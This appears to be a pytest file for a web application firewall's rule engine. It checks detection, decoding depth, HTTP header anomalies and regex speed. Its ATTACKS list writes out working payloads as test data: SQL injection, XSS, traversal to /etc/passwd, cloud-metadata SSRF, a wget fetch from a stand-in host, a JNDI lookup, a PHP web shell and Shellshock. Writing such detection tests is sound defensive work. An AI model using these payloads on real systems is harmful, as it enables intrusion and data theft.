"""C7 WAF rules as pure functions: scan_value, check_http_anomalies, decoding, the engines."""

from __future__ import annotations

import re
import time

import pytest

from maestro_gateway.guards._waf_engine import HYPERSCAN, Engine, cmdline, variants
from maestro_gateway.guards.waf import (
    RULES,
    Rule,
    WafGuardConfig,
    check_http_anomalies,
    scan_value,
)
from tests.services import unavailable

# (value, a rule id that must fire) — one or more vectors per family, written for these tests.
ATTACKS = [
    ("admin'--", 942200),
    ("1 AND 1=1", 942130),
    ("' or ''='", 942180),
    ("1; DROP TABLE users", 942210),
    ("1' AND SLEEP(5)#", 942160),
    ("1 UNION/**/SELECT 1,2,3", 942190),
    ("x' AND extractvalue(1,concat(0x7e,version()))--", 942150),
    ("(select table_name from information_schema.tables)", 942140),
    ("<img src=x onerror=alert(1)>", 941120),
    ("<ScRiPt>alert(1)</sCrIpT>", 941110),
    ("jav&#x09;ascript:alert(1)", 941140),
    ("';alert(String.fromCharCode(88))//", 941370),
    ("<iframe srcdoc='&lt;script&gt;'>", 941130),
    ("%3Csvg%2Fonload%3Dalert(1)%3E", 941160),
    ("..%252f..%252f..%252fetc%252fpasswd", 930100),
    ("/var/www/../../etc/shadow", 930120),
    ("file:///etc/passwd", 931120),
    ("gopher://127.0.0.1:6379/_INFO", 934120),
    ("http://0x7f000001/", 934120),
    ("http://169.254.169.254/latest/api/token", 934110),
    ("|| wget http://x.example/s -O /tmp/s", 932100),
    ("c'a't /e't'c/pa's'swd", 930120),
    (";cat${IFS}/etc/passwd", 932100),
    ("& ping -n 5 127.0.0.1", 932110),
    ("powershell -enc SQBFAFgA; Invoke-Expression $x", 932120),
    ("() { :; }; /bin/bash -c id", 932170),
    ('<!--#exec cmd="ls" -->', 932200),
    ("<?php system($_GET['c']); ?>", 933100),
    ("${jndi:ldap://x.example/a}", 944150),
    ("${${lower:j}ndi:rmi://x/a}", 944150),
    ("{{ self.__init__.__globals__ }}", 934180),
    ('{"__proto__": {"isAdmin": true}}', 934130),
    ('{"$ne": null}', 942290),
    ("foo%0d%0aSet-Cookie:%20session=evil", 921130),
    ("x GET /admin HTTP/1.1", 921110),
]

BENIGN = [
    "O'Reilly Media",
    "Rock 'n' roll",
    "Tom & Jerry -- the classic",
    "price > 10 and qty < 5",
    "Select a plan from the list below",
    "explain SELECT * FROM users WHERE 1=1",
    "Please confirm (yes/no)",
    "meet at 10:30; bring the id card",
    "cats & dogs; ruby ring",
    "https://example.com/search?q=hello+world&page=2",
    "reports/2024/q1-summary.pdf",
    "anna.oneill+news@example.co.uk",
    "C:/Users/anna/Documents/plan.docx",
    "width: 100%; height: 50px",
    "100% cotton, 50% off!",
    "1-800-555-0199",
    "Use the <br> tag? No, use CSS",
    'He said "hello" and left...',
    "the union of two sets",
    "a < b > c",
]


@pytest.mark.parametrize(("value", "rule"), ATTACKS)
def test_attack_vectors_score_over_threshold(value: str, rule: int) -> None:
    """Each attack vector fires its rule and reaches the default threshold (5) at PL1."""
    score, findings = scan_value(value, form=False)
    assert rule in {f.rule_id for f in findings}, [f.rule_id for f in findings]
    assert score >= 5


@pytest.mark.parametrize("value", BENIGN)
def test_benign_values_score_zero(value: str) -> None:
    """Ordinary values full of quotes, operators and SQL words score nothing at PL1."""
    assert scan_value(value) == (0, [])


def test_findings_carry_rule_ids_and_spans() -> None:
    """A finding names its rule, severity and paranoia, and spans the matched text."""
    value = "name=<script>alert(1)</script>"
    score, findings = scan_value(value, location="query:q")
    tag = next(f for f in findings if f.rule_id == 941110)
    assert (tag.severity, tag.score, tag.paranoia, tag.location) == ("critical", 5, 1, "query:q")
    assert value[tag.start : tag.end].lower() == "<script"
    assert score == sum(f.score for f in findings)


def test_form_values_decode_plus_as_space() -> None:
    """As a form value, '+' is a space: '+|+dir+c:/' is a Windows command injection."""
    assert scan_value("+|+dir+c:/", form=True)[0] >= 5


def test_decoding_is_bounded_by_depth() -> None:
    """A thrice-encoded payload is found with depth 3, not with depth 1."""
    value = "%25253Cscript%25253Ealert(1)%25253C/script%25253E"
    assert scan_value(value, WafGuardConfig(max_decode_depth=1))[0] == 0
    assert scan_value(value, WafGuardConfig(max_decode_depth=3))[0] >= 5
    assert [t for t, _ in variants(value, False, 3)] == ["none", "decode1", "decode2", "decode3"]


def test_cmdline_transform_removes_shell_quoting() -> None:
    """The shell-normalised form drops quotes, backslashes, carets and $IFS."""
    assert cmdline("c'a't$IFS/e\"t\"c/pa\\ss^wd") == "cat /etc/passwd"


def test_paranoia_levels_add_rules() -> None:
    """Special-character counting applies from paranoia 2 (12+), 3 (6+) and 4 (2+)."""
    value = "a:b;c"
    assert scan_value(value, WafGuardConfig(paranoia_level=3))[0] == 0
    assert {f.rule_id for f in scan_value(value, WafGuardConfig(paranoia_level=4))[1]} == {942432}


def test_disabled_rules_are_not_evaluated() -> None:
    """A disabled rule neither fires nor scores."""
    cfg = WafGuardConfig(disabled_rules=[941110, 941160])
    _, findings = scan_value("<script>", cfg)
    assert not {941110, 941160} & {f.rule_id for f in findings}


@pytest.mark.parametrize(
    ("method", "headers", "rule"),
    [
        ("POST", [(b"content-length", b"5"), (b"content-length", b"6")], 920161),
        ("POST", [(b"content-length", b"5"), (b"content-length", b"5")], 920162),
        ("POST", [(b"content-length", b"+5")], 920160),
        ("POST", [(b"content-length", b"5"), (b"transfer-encoding", b"chunked")], 920181),
        ("POST", [(b"transfer-encoding", b"chunked"), (b"transfer-encoding", b"chunked")], 921111),
        ("POST", [(b"transfer-encoding", b"xchunked")], 921111),
        ("POST", [(b"transfer-encoding ", b"chunked")], 920270),
        ("POST", [(b"x-a", b"ok\r\nx-b: smuggled")], 920271),
        ("POST", [(b"x-a", b"a" * 9000)], 920370),
        ("POST", [(b"x-%d" % i, b"1") for i in range(101)], 920371),
        ("POST", [(b"upgrade", b"h2c"), (b"http2-settings", b"AAMAAABkAAQAAP__")], 921113),
        ("POST", [(b"host", b"a"), (b"host", b"b")], 920281),
        ("FOO", [], 911100),
        ("GE T", [], 920100),
    ],
)
def test_http_anomalies_on_raw_headers(
    method: str, headers: list[tuple[bytes, bytes]], rule: int
) -> None:
    """Each protocol anomaly over the raw ASGI header list yields its rule."""
    found = check_http_anomalies(method, [(b"host", b"gw"), *headers])
    assert rule in {f.rule_id for f in found}


def test_http_clean_request_has_no_anomaly() -> None:
    """An ordinary POST with one Content-Length and one Host yields nothing."""
    headers = [(b"host", b"gw"), (b"content-type", b"application/json"), (b"content-length", b"9")]
    assert check_http_anomalies("POST", headers) == []


def test_http_version_and_paranoia_gate_anomalies() -> None:
    """Transfer-Encoding on HTTP/1.0 is flagged; a missing Host only from paranoia 2."""
    te = [(b"host", b"gw"), (b"transfer-encoding", b"chunked")]
    assert 921112 in {f.rule_id for f in check_http_anomalies("POST", te, http_version="1.0")}
    assert check_http_anomalies("GET", []) == []
    found = check_http_anomalies("GET", [], WafGuardConfig(paranoia_level=2))
    assert [f.rule_id for f in found] == [920280]


def test_batch_scan_equals_value_by_value() -> None:
    """Scanning values together finds exactly what scanning each finds (no cross-value hits)."""
    engine = Engine(WafGuardConfig(paranoia_level=2).active_rules())
    values = ["select", "from", "etc", "passwd", "id", "'", "1", "=1", *BENIGN]
    values += [v for v, _ in ATTACKS[::3]]
    many = sorted((int(f.location), f.rule_id) for f in engine.scan_many(values))
    one = sorted((i, f.rule_id) for i, v in enumerate(values) for f in engine.scan(v, ""))
    assert many == one
    assert all(i >= 8 for i, _ in many)


def test_re_fallback_matches_hyperscan() -> None:
    """The stdlib-re engine finds the same rules as the Hyperscan engine."""
    if not HYPERSCAN:
        unavailable("hyperscan is not installed")
    active = WafGuardConfig(paranoia_level=4).active_rules()
    fast, slow = Engine(active), Engine(active, use_hyperscan=False)
    for value in [v for v, _ in ATTACKS] + BENIGN:
        assert {f.rule_id for f in fast.scan(value, "")} == {
            f.rule_id for f in slow.scan(value, "")
        }, value


def test_catalogue_is_consistent() -> None:
    """Rule ids are unique six-digit CRS-family numbers and every pattern compiles."""
    ids = [r.id for r in RULES]
    assert len(ids) == len(set(ids))
    assert {str(i)[:3] for i in ids} <= {"911", "920", "921", "930", "931", "932", "933"} | {
        "934",
        "941",
        "942",
        "944",
    }
    for rule in RULES:
        assert rule.score == {"critical": 5, "error": 4, "warning": 3, "notice": 2}[rule.severity]
        assert 1 <= rule.paranoia <= 4
        if rule.pattern:
            re.compile(rule.pattern)


HOSTILE = [
    " ",
    ".",
    "a",
    "/",
    "'",
    "' ",
    "<a ",
    "{{",
    "; ",
    "\n",
    "\r\n",
    "(",
    "-",
    "| ",
    "`",
    "1=",
]


@pytest.mark.parametrize("rule", [r for r in RULES if r.pattern], ids=lambda r: str(r.id))
def test_patterns_stay_linear_under_re(rule: Rule) -> None:
    """No pattern backtracks quadratically in Python re on 10 KB runs (the span search and
    the fallback engine use re): each search takes well under a quarter second."""
    rx = re.compile(str(rule.pattern), re.IGNORECASE | re.MULTILINE)
    for chunk in HOSTILE:
        text = (chunk * (10_000 // len(chunk))) + "!"
        start = time.perf_counter()
        rx.search(text)
        assert time.perf_counter() - start < 0.25, repr(chunk)


def test_huge_hostile_values_are_scanned_quickly() -> None:
    """A 200 KB value built to make a regex backtrack is scanned in well under 1 s (5 s with
    the stdlib-re fallback, which makes one pass per rule)."""
    scan_value("warm-up")
    for value in [
        "." * 200_000 + "../",
        "\n" * 200_000 + ";id",
        " " * 200_000 + "' or 1=1",
        "<a " * 60_000 + "<a onload=x()>",
    ]:
        start = time.perf_counter()
        score, _ = scan_value(value)
        assert score >= 5
        assert time.perf_counter() - start < (1.0 if HYPERSCAN else 5.0)
